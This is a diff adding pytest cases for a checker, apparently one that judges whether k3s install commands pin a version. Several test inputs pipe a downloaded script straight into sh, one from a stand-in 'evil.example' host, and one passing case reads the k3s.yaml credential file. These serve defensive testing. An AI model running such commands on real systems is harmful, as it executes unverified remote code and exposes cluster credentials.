@@ -40,6 +40,26 @@ K3S_FAILING = [
     pytest.param(command("sh /tmp/k3smc/install.sh",
                          environment={"INSTALL_K3S_VERSION": "main"}),
                  "INSTALL_K3S_VERSION='main'", id="environment-branch"),
+    # The version appears in the URL but not as a path segment, so the server
+    # may return any script.
+    pytest.param(command("curl -sfL https://get.k3s.io/#v1.35.6+k3s1 | "
+                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 "carries no version", id="version-in-fragment"),
+    pytest.param(command("curl -sfL 'https://get.k3s.io/?v=v1.35.6%2Bk3s1' | "
+                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 "carries no version", id="version-in-query"),
+    pytest.param(command("curl -sfL https://v1.35.6+k3s1.evil.example/install.sh | "
+                         "INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 "carries no version", id="version-in-host"),
+    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/"
+                         "v1.35.6%2Bk3s1-rc1/install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 "carries no version", id="version-prefix-of-segment"),
+    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/"
+                         "v1.30.0%2Bk3s1/install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 "carries no version", id="other-version-in-path"),
+    pytest.param(command("env INSTALL_K3S_VERSION=v1.35.6+k3s1 "
+                         "INSTALL_SCRIPT_URL=https://get.k3s.io/#v1.35.6+k3s1 bash install-k3s.sh"),
+                 "carries no version", id="environment-url-fragment"),
 ]
 
 K3S_PASSING = [
@@ -54,6 +74,15 @@ K3S_PASSING = [
     pytest.param(command("sh /tmp/k3smc/install.sh",
                          environment={"INSTALL_K3S_VERSION": "v1.35.6+k3s1"}),
                  id="environment"),
+    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/v1.35.6+k3s1/"
+                         "install.sh | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 id="pinned-plus-sign"),
+    pytest.param(command("curl -sfL https://raw.githubusercontent.com/k3s-io/k3s/v1.35.6%2bk3s1/"
+                         "install.sh#top | INSTALL_K3S_VERSION=v1.35.6+k3s1 sh -"),
+                 id="pinned-lowercase-escape"),
+    pytest.param(command("env INSTALL_K3S_VERSION=v1.35.6+k3s1 INSTALL_SCRIPT_URL=https://"
+                         f"get.k3s.io/ INSTALL_SCRIPT_SHA256={SHA256} bash install-k3s.sh"),
+                 id="unversioned-url-with-sha256"),
     pytest.param(command("cat /etc/rancher/k3s/k3s.yaml"), id="not-an-install"),
     pytest.param(command("/usr/local/bin/k3s-uninstall.sh"), id="uninstall"),
 ]
